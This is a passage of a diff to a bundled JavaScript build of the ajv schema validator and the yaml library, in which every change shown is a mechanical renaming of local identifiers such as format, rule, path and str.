             group.rules.splice(i2, 1);
         }
         return this;
       }
       // Add format
-      addFormat(name2, format) {
-        if (typeof format == "string")
-          format = new RegExp(format);
-        this.formats[name2] = format;
+      addFormat(name2, format2) {
+        if (typeof format2 == "string")
+          format2 = new RegExp(format2);
+        this.formats[name2] = format2;
         return this;
       }
       errorsText(errors = this.errors, { separator = ", ", dataVar = "data" } = {}) {
@@ -6462,18 +6462,18 @@ var require_core = __commonJS({
         return errors.map((e) => `${dataVar}${e.instancePath} ${e.message}`).reduce((text, msg) => text + separator + msg);
       }
       $dataMetaSchema(metaSchema, keywordsJsonPointers) {
-        const rules = this.RULES.all;
+        const rules2 = this.RULES.all;
         metaSchema = JSON.parse(JSON.stringify(metaSchema));
         for (const jsonPointer of keywordsJsonPointers) {
           const segments = jsonPointer.split("/").slice(1);
           let keywords = metaSchema;
           for (const seg of segments)
             keywords = keywords[seg];
-          for (const key in rules) {
-            const rule = rules[key];
-            if (typeof rule != "object")
+          for (const key in rules2) {
+            const rule2 = rules2[key];
+            if (typeof rule2 != "object")
               continue;
-            const { $data } = rule.definition;
+            const { $data } = rule2.definition;
             const schema = keywords[key];
             if ($data && schema)
               keywords[key] = schemaOrData(schema);
@@ -6494,7 +6494,7 @@ var require_core = __commonJS({
           }
         }
       }
-      _addSchema(schema, meta, baseId, validateSchema = this.opts.validateSchema, addSchema = this.opts.addUsedSchema) {
+      _addSchema(schema, meta9, baseId, validateSchema = this.opts.validateSchema, addSchema = this.opts.addUsedSchema) {
         let id;
         const { schemaId } = this.opts;
         if (typeof schema == "object") {
@@ -6510,7 +6510,7 @@ var require_core = __commonJS({
           return sch;
         baseId = (0, resolve_1.normalizeId)(id || baseId);
         const localRefs = resolve_1.getSchemaRefs.call(this, schema, baseId);
-        sch = new compile_1.SchemaEnv({ schema, schemaId, meta, baseId, localRefs });
+        sch = new compile_1.SchemaEnv({ schema, schemaId, meta: meta9, baseId, localRefs });
         this._cache.set(sch.schema, sch);
         if (addSchema && !baseId.startsWith("#")) {
           if (baseId)
@@ -6545,10 +6545,10 @@ var require_core = __commonJS({
         }
       }
     };
-    Ajv2.ValidationError = validation_error_1.default;
-    Ajv2.MissingRefError = ref_error_1.default;
-    exports.default = Ajv2;
-    function checkOptions(checkOpts, options, msg, log = "error") {
+    Ajv3.ValidationError = validation_error_1.default;
+    Ajv3.MissingRefError = ref_error_1.default;
+    exports.default = Ajv3;
+    function checkOptions2(checkOpts, options, msg, log = "error") {
       for (const key in checkOpts) {
         const opt = key;
         if (opt in options)
@@ -6571,9 +6571,9 @@ var require_core = __commonJS({
     }
     function addInitialFormats() {
       for (const name2 in this.opts.formats) {
-        const format = this.opts.formats[name2];
-        if (format)
-          this.addFormat(name2, format);
+        const format2 = this.opts.formats[name2];
+        if (format2)
+          this.addFormat(name2, format2);
       }
     }
     function addInitialKeywords(defs) {
@@ -6637,7 +6637,7 @@ var require_core = __commonJS({
       RULES.keywords[keyword] = true;
       if (!definition)
         return;
-      const rule = {
+      const rule2 = {
         keyword,
         definition: {
           ...definition,
@@ -6646,18 +6646,18 @@ var require_core = __commonJS({
         }
       };
       if (definition.before)
-        addBeforeRule.call(this, ruleGroup, rule, definition.before);
+        addBeforeRule.call(this, ruleGroup, rule2, definition.before);
       else
-        ruleGroup.rules.push(rule);
-      RULES.all[keyword] = rule;
+        ruleGroup.rules.push(rule2);
+      RULES.all[keyword] = rule2;
       (_a = definition.implements) === null || _a === void 0 ? void 0 : _a.forEach((kwd) => this.addKeyword(kwd));
     }
-    function addBeforeRule(ruleGroup, rule, before) {
+    function addBeforeRule(ruleGroup, rule2, before) {
       const i2 = ruleGroup.rules.findIndex((_rule) => _rule.keyword === before);
       if (i2 >= 0) {
-        ruleGroup.rules.splice(i2, 0, rule);
+        ruleGroup.rules.splice(i2, 0, rule2);
       } else {
-        ruleGroup.rules.push(rule);
+        ruleGroup.rules.push(rule2);
         this.logger.warn(`rule ${before} is not defined`);
       }
     }
@@ -6710,11 +6710,11 @@ var require_ref = __commonJS({
       schemaType: "string",
       code(cxt) {
         const { gen, schema: $ref, it } = cxt;
-        const { baseId, schemaEnv: env, validateName, opts, self } = it;
+        const { baseId, schemaEnv: env, validateName, opts, self: self2 } = it;
         const { root } = env;
         if (($ref === "#" || $ref === "#/") && baseId === root.baseId)
           return callRootRef();
-        const schOrEnv = compile_1.resolveRef.call(self, root, baseId, $ref);
+        const schOrEnv = compile_1.resolveRef.call(self2, root, baseId, $ref);
         if (schOrEnv === void 0)
           throw new ref_error_1.default(it.opts.uriResolver, baseId, $ref);
         if (schOrEnv instanceof compile_1.SchemaEnv)
@@ -6901,16 +6901,16 @@ var require_ucs2length = __commonJS({
   "node_modules/ajv/dist/runtime/ucs2length.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
-    function ucs2length(str) {
-      const len = str.length;
+    function ucs2length(str2) {
+      const len = str2.length;
       let length = 0;
       let pos = 0;
       let value;
       while (pos < len) {
         length++;
-        value = str.charCodeAt(pos++);
+        value = str2.charCodeAt(pos++);
         if (value >= 55296 && value <= 56319 && pos < len) {
-          value = str.charCodeAt(pos);
+          value = str2.charCodeAt(pos);
           if ((value & 64512) === 56320)
             pos++;
         }
@@ -8242,7 +8242,7 @@ var require_format = __commonJS({
       error,
       code(cxt, ruleType) {
         const { gen, data, $data, schema, schemaCode, it } = cxt;
-        const { opts, errSchemaPath, schemaEnv, self } = it;
+        const { opts, errSchemaPath, schemaEnv, self: self2 } = it;
         if (!opts.validateFormats)
           return;
         if ($data)
@@ -8251,39 +8251,39 @@ var require_format = __commonJS({
           validateFormat();
         function validate$DataFormat() {
           const fmts = gen.scopeValue("formats", {
-            ref: self.formats,
+            ref: self2.formats,
             code: opts.code.formats
           });
           const fDef = gen.const("fDef", (0, codegen_1._)`${fmts}[${schemaCode}]`);
           const fType = gen.let("fType");
-          const format = gen.let("format");
-          gen.if((0, codegen_1._)`typeof ${fDef} == "object" && !(${fDef} instanceof RegExp)`, () => gen.assign(fType, (0, codegen_1._)`${fDef}.type || "string"`).assign(format, (0, codegen_1._)`${fDef}.validate`), () => gen.assign(fType, (0, codegen_1._)`"string"`).assign(format, fDef));
+          const format2 = gen.let("format");
+          gen.if((0, codegen_1._)`typeof ${fDef} == "object" && !(${fDef} instanceof RegExp)`, () => gen.assign(fType, (0, codegen_1._)`${fDef}.type || "string"`).assign(format2, (0, codegen_1._)`${fDef}.validate`), () => gen.assign(fType, (0, codegen_1._)`"string"`).assign(format2, fDef));
           cxt.fail$data((0, codegen_1.or)(unknownFmt(), invalidFmt()));
           function unknownFmt() {
             if (opts.strictSchema === false)
               return codegen_1.nil;
-            return (0, codegen_1._)`${schemaCode} && !${format}`;
+            return (0, codegen_1._)`${schemaCode} && !${format2}`;
           }
           function invalidFmt() {
-            const callFormat = schemaEnv.$async ? (0, codegen_1._)`(${fDef}.async ? await ${format}(${data}) : ${format}(${data}))` : (0, codegen_1._)`${format}(${data})`;
-            const validData = (0, codegen_1._)`(typeof ${format} == "function" ? ${callFormat} : ${format}.test(${data}))`;
-            return (0, codegen_1._)`${format} && ${format} !== true && ${fType} === ${ruleType} && !${validData}`;
+            const callFormat = schemaEnv.$async ? (0, codegen_1._)`(${fDef}.async ? await ${format2}(${data}) : ${format2}(${data}))` : (0, codegen_1._)`${format2}(${data})`;
+            const validData = (0, codegen_1._)`(typeof ${format2} == "function" ? ${callFormat} : ${format2}.test(${data}))`;
+            return (0, codegen_1._)`${format2} && ${format2} !== true && ${fType} === ${ruleType} && !${validData}`;
           }
         }
         function validateFormat() {
-          const formatDef = self.formats[schema];
+          const formatDef = self2.formats[schema];
           if (!formatDef) {
             unknownFormat();
             return;
           }
           if (formatDef === true)
             return;
-          const [fmtType, format, fmtRef] = getFormat(formatDef);
+          const [fmtType, format2, fmtRef] = getFormat(formatDef);
           if (fmtType === ruleType)
             cxt.pass(validCondition());
           function unknownFormat() {
             if (opts.strictSchema === false) {
-              self.logger.warn(unknownMsg());
+              self2.logger.warn(unknownMsg());
               return;
             }
             throw new Error(unknownMsg());
@@ -8305,7 +8305,7 @@ var require_format = __commonJS({
                 throw new Error("async format in sync schema");
               return (0, codegen_1._)`await ${fmtRef}(${data})`;
             }
-            return typeof format == "function" ? (0, codegen_1._)`${fmtRef}(${data})` : (0, codegen_1._)`${fmtRef}.test(${data})`;
+            return typeof format2 == "function" ? (0, codegen_1._)`${fmtRef}(${data})` : (0, codegen_1._)`${fmtRef}.test(${data})`;
           }
         }
       }
@@ -8320,8 +8320,8 @@ var require_format2 = __commonJS({
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var format_1 = require_format();
-    var format = [format_1.default];
-    exports.default = format;
+    var format2 = [format_1.default];
+    exports.default = format2;
   }
 });
 
@@ -8658,7 +8658,7 @@ var require_ajv = __commonJS({
     var draft7MetaSchema = require_json_schema_draft_07();
     var META_SUPPORT_DATA = ["/properties"];
     var META_SCHEMA_ID = "http://json-schema.org/draft-07/schema";
-    var Ajv2 = class extends core_1.default {
+    var Ajv3 = class extends core_1.default {
       _addVocabularies() {
         super._addVocabularies();
         draft7_1.default.forEach((v) => this.addVocabulary(v));
@@ -8677,11 +8677,11 @@ var require_ajv = __commonJS({
         return this.opts.defaultMeta = super.defaultMeta() || (this.getSchema(META_SCHEMA_ID) ? META_SCHEMA_ID : void 0);
       }
     };
-    exports.Ajv = Ajv2;
-    module2.exports = exports = Ajv2;
-    module2.exports.Ajv = Ajv2;
+    exports.Ajv = Ajv3;
+    module2.exports = exports = Ajv3;
+    module2.exports.Ajv = Ajv3;
     Object.defineProperty(exports, "__esModule", { value: true });
-    exports.default = Ajv2;
+    exports.default = Ajv3;
     var validate_1 = require_validate();
     Object.defineProperty(exports, "KeywordCxt", { enumerable: true, get: function() {
       return validate_1.KeywordCxt;
@@ -8729,10 +8729,10 @@ var require_identity = __commonJS({
     var NODE_TYPE = /* @__PURE__ */ Symbol.for("yaml.node.type");
     var isAlias = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === ALIAS;
     var isDocument = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === DOC;
-    var isMap = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === MAP;
+    var isMap2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === MAP;
     var isPair = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === PAIR;
-    var isScalar = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SCALAR;
-    var isSeq = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SEQ;
+    var isScalar2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SCALAR;
+    var isSeq2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SEQ;
     function isCollection(node) {
       if (node && typeof node === "object")
         switch (node[NODE_TYPE]) {
@@ -8753,7 +8753,7 @@ var require_identity = __commonJS({
         }
       return false;
     }
-    var hasAnchor = (node) => (isScalar(node) || isCollection(node)) && !!node.anchor;
+    var hasAnchor = (node) => (isScalar2(node) || isCollection(node)) && !!node.anchor;
     exports.ALIAS = ALIAS;
     exports.DOC = DOC;
     exports.MAP = MAP;
@@ -8765,11 +8765,11 @@ var require_identity = __commonJS({
     exports.isAlias = isAlias;
     exports.isCollection = isCollection;
     exports.isDocument = isDocument;
-    exports.isMap = isMap;
+    exports.isMap = isMap2;
     exports.isNode = isNode;
     exports.isPair = isPair;
-    exports.isScalar = isScalar;
-    exports.isSeq = isSeq;
+    exports.isScalar = isScalar2;
+    exports.isSeq = isSeq2;
   }
 });
 
@@ -8781,7 +8781,7 @@ var require_visit = __commonJS({
     var BREAK = /* @__PURE__ */ Symbol("break visit");
     var SKIP = /* @__PURE__ */ Symbol("skip children");
     var REMOVE = /* @__PURE__ */ Symbol("remove node");
-    function visit(node, visitor) {
+    function visit2(node, visitor) {
       const visitor_ = initVisitor(visitor);
       if (identity.isDocument(node)) {
         const cd = visit_(null, node.contents, visitor_, Object.freeze([node]));
@@ -8790,20 +8790,20 @@ var require_visit = __commonJS({
       } else
         visit_(null, node, visitor_, Object.freeze([]));
     }
-    visit.BREAK = BREAK;
-    visit.SKIP = SKIP;
-    visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path) {
-      const ctrl = callVisitor(key, node, visitor, path);
+    visit2.BREAK = BREAK;
+    visit2.SKIP = SKIP;
+    visit2.REMOVE = REMOVE;
+    function visit_(key, node, visitor, path2) {
+      const ctrl = callVisitor(key, node, visitor, path2);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path, ctrl);
-        return visit_(key, ctrl, visitor, path);
+        replaceNode(key, path2, ctrl);
+        return visit_(key, ctrl, visitor, path2);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path = Object.freeze(path.concat(node));
+          path2 = Object.freeze(path2.concat(node));
           for (let i2 = 0; i2 < node.items.length; ++i2) {
-            const ci = visit_(i2, node.items[i2], visitor, path);
+            const ci = visit_(i2, node.items[i2], visitor, path2);
             if (typeof ci === "number")
               i2 = ci - 1;
             else if (ci === BREAK)
@@ -8814,13 +8814,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path = Object.freeze(path.concat(node));
-          const ck = visit_("key", node.key, visitor, path);
+          path2 = Object.freeze(path2.concat(node));
+          const ck = visit_("key", node.key, visitor, path2);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path);
+          const cv = visit_("value", node.value, visitor, path2);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -8841,17 +8841,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path) {
-      const ctrl = await callVisitor(key, node, visitor, path);
+    async function visitAsync_(key, node, visitor, path2) {
+      const ctrl = await callVisitor(key, node, visitor, path2);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path, ctrl);
-        return visitAsync_(key, ctrl, visitor, path);
+        replaceNode(key, path2, ctrl);
+        return visitAsync_(key, ctrl, visitor, path2);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path = Object.freeze(path.concat(node));
+          path2 = Object.freeze(path2.concat(node));
           for (let i2 = 0; i2 < node.items.length; ++i2) {
-            const ci = await visitAsync_(i2, node.items[i2], visitor, path);
+            const ci = await visitAsync_(i2, node.items[i2], visitor, path2);
             if (typeof ci === "number")
               i2 = ci - 1;
             else if (ci === BREAK)
@@ -8862,13 +8862,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path = Object.freeze(path.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path);
+          path2 = Object.freeze(path2.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path2);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path);
+          const cv = await visitAsync_("value", node.value, visitor, path2);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -8895,23 +8895,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path) {
+    function callVisitor(key, node, visitor, path2) {
       if (typeof visitor === "function")
-        return visitor(key, node, path);
+        return visitor(key, node, path2);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path);
+        return visitor.Map?.(key, node, path2);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path);
+        return visitor.Seq?.(key, node, path2);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path);
+        return visitor.Pair?.(key, node, path2);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path);
+        return visitor.Scalar?.(key, node, path2);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path);
+        return visitor.Alias?.(key, node, path2);
       return void 0;
     }
-    function replaceNode(key, path, node) {
-      const parent = path[path.length - 1];
+    function replaceNode(key, path2, node) {
+      const parent = path2[path2.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -8926,7 +8926,7 @@ var require_visit = __commonJS({
         throw new Error(`Cannot replace node with ${pt} parent`);
       }
     }
-    exports.visit = visit;
+    exports.visit = visit2;
     exports.visitAsync = visitAsync;
   }
 });
@@ -8936,7 +8936,7 @@ var require_directives = __commonJS({
   "node_modules/yaml/dist/doc/directives.js"(exports) {
     "use strict";
     var identity = require_identity();
-    var visit = require_visit();
+    var visit2 = require_visit();
     var escapeChars = {
       "!": "%21",
       ",": "%2C",
@@ -9080,7 +9080,7 @@ var require_directives = __commonJS({
         let tagNames;
         if (doc && tagEntries.length > 0 && identity.isNode(doc.contents)) {
           const tags = {};
-          visit.visit(doc.contents, (_key, node) => {
+          visit2.visit(doc.contents, (_key, node) => {
             if (identity.isNode(node) && node.tag)
               tags[node.tag] = true;
           });
@@ -9107,7 +9107,7 @@ var require_anchors = __commonJS({
   "node_modules/yaml/dist/doc/anchors.js"(exports) {
     "use strict";
     var identity = require_identity();
-    var visit = require_visit();
+    var visit2 = require_visit();
     function anchorIsValid(anchor) {
       if (/[\x00-\x19\s,[\]{}]/.test(anchor)) {
         const sa = JSON.stringify(anchor);
@@ -9118,7 +9118,7 @@ var require_anchors = __commonJS({
     }
     function anchorNames(root) {
       const anchors = /* @__PURE__ */ new Set();
-      visit.visit(root, {
+      visit2.visit(root, {
         Value(_key, node) {
           if (node.anchor)
             anchors.add(node.anchor);
@@ -9227,19 +9227,19 @@ var require_toJS = __commonJS({
   "node_modules/yaml/dist/nodes/toJS.js"(exports) {
     "use strict";
     var identity = require_identity();
-    function toJS(value, arg, ctx) {
+    function toJS(value, arg2, ctx) {
       if (Array.isArray(value))
         return value.map((v, i2) => toJS(v, String(i2), ctx));
       if (value && typeof value.toJSON === "function") {
         if (!ctx || !identity.hasAnchor(value))
-          return value.toJSON(arg, ctx);
+          return value.toJSON(arg2, ctx);
         const data = { aliasCount: 0, count: 1, res: void 0 };
         ctx.anchors.set(value, data);
         ctx.onCreate = (res2) => {
           data.res = res2;
           delete ctx.onCreate;
         };
-        const res = value.toJSON(arg, ctx);
+        const res = value.toJSON(arg2, ctx);
         if (ctx.onCreate)
           ctx.onCreate(res);
         return res;
@@ -9298,7 +9298,7 @@ var require_Alias = __commonJS({
   "node_modules/yaml/dist/nodes/Alias.js"(exports) {
     "use strict";
     var anchors = require_anchors();
-    var visit = require_visit();
+    var visit2 = require_visit();
     var identity = require_identity();
     var Node2 = require_Node();
     var toJS = require_toJS();
@@ -9324,7 +9324,7 @@ var require_Alias = __commonJS({
           nodes = ctx.aliasResolveCache;
         } else {
           nodes = [];
-          visit.visit(doc, {
+          visit2.visit(doc, {
             Node: (_key, node) => {
               if (identity.isAlias(node) || identity.hasAnchor(node))
                 nodes.push(node);
@@ -9424,8 +9424,8 @@ var require_Scalar = __commonJS({
         super(identity.SCALAR);
         this.value = value;
       }
-      toJSON(arg, ctx) {
-        return ctx?.keep ? this.value : toJS.toJS(this.value, arg, ctx);
+      toJSON(arg2, ctx) {
+        return ctx?.keep ? this.value : toJS.toJS(this.value, arg2, ctx);
       }
       toString() {
         return String(this.value);
@@ -9523,10 +9523,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node2 = require_Node();
-    function collectionFromPath(schema, path, value) {
+    function collectionFromPath(schema, path2, value) {
       let v = value;
-      for (let i2 = path.length - 1; i2 >= 0; --i2) {
-        const k = path[i2];
+      for (let i2 = path2.length - 1; i2 >= 0; --i2) {
+        const k = path2[i2];
         if (typeof k === "number" && Number.isInteger(k) && k >= 0) {
           const a = [];
           a[k] = v;
@@ -9545,7 +9545,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path) => path == null || typeof path === "object" && !!path[Symbol.iterator]().next().done;
+    var isEmptyPath = (path2) => path2 == null || typeof path2 === "object" && !!path2[Symbol.iterator]().next().done;
     var Collection = class extends Node2.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -9575,11 +9575,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path, value) {
-        if (isEmptyPath(path))
+      addIn(path2, value) {
+        if (isEmptyPath(path2))
           this.add(value);
         else {
-          const [key, ...rest] = path;
+          const [key, ...rest] = path2;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -9593,8 +9593,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path) {
-        const [key, ...rest] = path;
+      deleteIn(path2) {
+        const [key, ...rest] = path2;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -9608,8 +9608,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path, keepScalar) {
-        const [key, ...rest] = path;
+      getIn(path2, keepScalar) {
+        const [key, ...rest] = path2;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -9627,8 +9627,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path) {
-        const [key, ...rest] = path;
+      hasIn(path2) {
+        const [key, ...rest] = path2;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -9638,8 +9638,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path, value) {
-        const [key, ...rest] = path;
+      setIn(path2, value) {
+        const [key, ...rest] = path2;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -9663,13 +9663,13 @@ var require_Collection = __commonJS({
 var require_stringifyComment = __commonJS({
   "node_modules/yaml/dist/stringify/stringifyComment.js"(exports) {
     "use strict";
-    var stringifyComment = (str) => str.replace(/^(?!$)(?: $)?/gm, "#");
+    var stringifyComment = (str2) => str2.replace(/^(?!$)(?: $)?/gm, "#");
     function indentComment(comment, indent) {
       if (/^\n+$/.test(comment))
         return comment.substring(1);
       return indent ? comment.replace(/^(?! *$)/gm, indent) : comment;
     }
-    var lineComment = (str, indent, comment) => str.endsWith("\n") ? indentComment(comment, indent) : comment.includes("\n") ? "\n" + indentComment(comment, indent) : (str.endsWith(" ") ? "" : " ") + comment;
+    var lineComment = (str2, indent, comment) => str2.endsWith("\n") ? indentComment(comment, indent) : comment.includes("\n") ? "\n" + indentComment(comment, indent) : (str2.endsWith(" ") ? "" : " ") + comment;
     exports.indentComment = indentComment;
     exports.lineComment = lineComment;
     exports.stringifyComment = stringifyComment;
@@ -9823,16 +9823,16 @@ var require_stringifyString = __commonJS({
       lineWidth: ctx.options.lineWidth,
       minContentWidth: ctx.options.minContentWidth
     });
-    var containsDocumentMarker = (str) => /^(%|---|\.\.\.)/m.test(str);
-    function lineLengthOverLimit(str, lineWidth, indentLength) {
+    var containsDocumentMarker = (str2) => /^(%|---|\.\.\.)/m.test(str2);
+    function lineLengthOverLimit(str2, lineWidth, indentLength) {
       if (!lineWidth || lineWidth < 0)
         return false;
       const limit = lineWidth - indentLength;
-      const strLen = str.length;
+      const strLen = str2.length;
       if (strLen <= limit)
         return false;
       for (let i2 = 0, start2 = 0; i2 < strLen; ++i2) {
-        if (str[i2] === "\n") {
+        if (str2[i2] === "\n") {
           if (i2 - start2 > limit)
             return true;
           start2 = i2 + 1;
@@ -9849,11 +9849,11 @@ var require_stringifyString = __commonJS({
       const { implicitKey } = ctx;
       const minMultiLineLength = ctx.options.doubleQuotedMinMultiLineLength;
       const indent = ctx.indent || (containsDocumentMarker(value) ? "  " : "");
-      let str = "";
+      let str2 = "";
       let start2 = 0;
       for (let i2 = 0, ch = json[i2]; ch; ch = json[++i2]) {
         if (ch === " " && json[i2 + 1] === "\\" && json[i2 + 2] === "n") {
-          str += json.slice(start2, i2) + "\\ ";
+          str2 += json.slice(start2, i2) + "\\ ";
           i2 += 1;
           start2 = i2;
           ch = "\\";
@@ -9862,38 +9862,38 @@ var require_stringifyString = __commonJS({
           switch (json[i2 + 1]) {
             case "u":
               {
-                str += json.slice(start2, i2);
+                str2 += json.slice(start2, i2);
                 const code2 = json.substr(i2 + 2, 4);
                 switch (code2) {
                   case "0000":
-                    str += "\\0";
+                    str2 += "\\0";
                     break;
                   case "0007":
-                    str += "\\a";
+                    str2 += "\\a";
                     break;
                   case "000b":
-                    str += "\\v";
+                    str2 += "\\v";
                     break;
                   case "001b":
-                    str += "\\e";
+                    str2 += "\\e";
                     break;
                   case "0085":
-                    str += "\\N";
+                    str2 += "\\N";
                     break;
                   case "00a0":
-                    str += "\\_";
+                    str2 += "\\_";
                     break;
                   case "2028":
-                    str += "\\L";
+                    str2 += "\\L";
                     break;
                   case "2029":
-                    str += "\\P";
+                    str2 += "\\P";
                     break;
                   default:
                     if (code2.substr(0, 2) === "00")
-                      str += "\\x" + code2.substr(2);
+                      str2 += "\\x" + code2.substr(2);
                     else
-                      str += json.substr(i2, 6);
+                      str2 += json.substr(i2, 6);
                 }
                 i2 += 5;
                 start2 = i2 + 1;
@@ -9903,14 +9903,14 @@ var require_stringifyString = __commonJS({
               if (implicitKey || json[i2 + 2] === '"' || json.length < minMultiLineLength) {
                 i2 += 1;
               } else {
-                str += json.slice(start2, i2) + "\n\n";
+                str2 += json.slice(start2, i2) + "\n\n";
                 while (json[i2 + 2] === "\\" && json[i2 + 3] === "n" && json[i2 + 4] !== '"') {
-                  str += "\n";
+                  str2 += "\n";
                   i2 += 2;
                 }
-                str += indent;
+                str2 += indent;
                 if (json[i2 + 2] === " ")
-                  str += "\\";
+                  str2 += "\\";
                 i2 += 1;
                 start2 = i2 + 1;
               }
@@ -9919,8 +9919,8 @@ var require_stringifyString = __commonJS({
               i2 += 1;
           }
       }
-      str = start2 ? str + json.slice(start2) : json;
-      return implicitKey ? str : foldFlowLines.foldFlowLines(str, indent, foldFlowLines.FOLD_QUOTED, getFoldOptions(ctx, false));
+      str2 = start2 ? str2 + json.slice(start2) : json;
+      return implicitKey ? str2 : foldFlowLines.foldFlowLines(str2, indent, foldFlowLines.FOLD_QUOTED, getFoldOptions(ctx, false));
     }
     function singleQuotedString(value, ctx) {
       if (ctx.options.singleQuote === false || ctx.implicitKey && value.includes("\n") || /[ \t]\n|\n[ \t]/.test(value))
@@ -10048,15 +10048,15 @@ ${indent}${start2}${value}${end}`;
           return quotedString(value, ctx);
         }
       }
-      const str = value.replace(/\n+/g, `$&
+      const str2 = value.replace(/\n+/g, `$&
 ${indent}`);
       if (actualString) {
-        const test = (tag) => tag.default && tag.tag !== "tag:yaml.org,2002:str" && tag.test?.test(str);
+        const test = (tag) => tag.default && tag.tag !== "tag:yaml.org,2002:str" && tag.test?.test(str2);
         const { compat, tags } = ctx.doc.schema;
         if (tags.some(test) || compat?.some(test))
           return quotedString(value, ctx);
       }
-      return implicitKey ? str : foldFlowLines.foldFlowLines(str, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
+      return implicitKey ? str2 : foldFlowLines.foldFlowLines(str2, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
     }
     function stringifyString(item, ctx, onComment, onChompKeep) {
       const { implicitKey, inFlow } = ctx;
@@ -10208,11 +10208,11 @@ var require_stringify = __commonJS({
       const props = stringifyProps(node, tagObj, ctx);
       if (props.length > 0)
         ctx.indentAtStart = (ctx.indentAtStart ?? 0) + props.length + 1;
-      const str = typeof tagObj.stringify === "function" ? tagObj.stringify(node, ctx, onComment, onChompKeep) : identity.isScalar(node) ? stringifyString.stringifyString(node, ctx, onComment, onChompKeep) : node.toString(ctx, onComment, onChompKeep);
+      const str2 = typeof tagObj.stringify === "function" ? tagObj.stringify(node, ctx, onComment, onChompKeep) : identity.isScalar(node) ? stringifyString.stringifyString(node, ctx, onComment, onChompKeep) : node.toString(ctx, onComment, onChompKeep);
       if (!props)
-        return str;
-      return identity.isScalar(node) || str[0] === "{" || str[0] === "[" ? `${props} ${str}` : `${props}
-${ctx.indent}${str}`;
+        return str2;
+      return identity.isScalar(node) || str2[0] === "{" || str2[0] === "[" ? `${props} ${str2}` : `${props}
+${ctx.indent}${str2}`;
     }
     exports.createStringifyContext = createStringifyContext;
     exports.stringify = stringify;
@@ -10247,8 +10247,8 @@ var require_stringifyPair = __commonJS({
       });
       let keyCommentDone = false;
       let chompKeep = false;
-      let str = stringify.stringify(key, ctx, () => keyCommentDone = true, () => chompKeep = true);
-      if (!explicitKey && !ctx.inFlow && str.length > 1024) {
+      let str2 = stringify.stringify(key, ctx, () => keyCommentDone = true, () => chompKeep = true);
+      if (!explicitKey && !ctx.inFlow && str2.length > 1024) {
         if (simpleKeys)
           throw new Error("With simple keys, single line scalar must not span more than 1024 characters");
         explicitKey = true;
@@ -10257,27 +10257,27 @@ var require_stringifyPair = __commonJS({
         if (allNullValues || value == null) {
           if (keyCommentDone && onComment)
             onComment();
-          return str === "" ? "?" : explicitKey ? `? ${str}` : str;
+          return str2 === "" ? "?" : explicitKey ? `? ${str2}` : str2;
         }
       } else if (allNullValues && !simpleKeys || value == null && explicitKey) {
-        str = `? ${str}`;
+        str2 = `? ${str2}`;
         if (keyComment && !keyCommentDone) {
-          str += stringifyComment.lineComment(str, ctx.indent, commentString(keyComment));
+          str2 += stringifyComment.lineComment(str2, ctx.indent, commentString(keyComment));
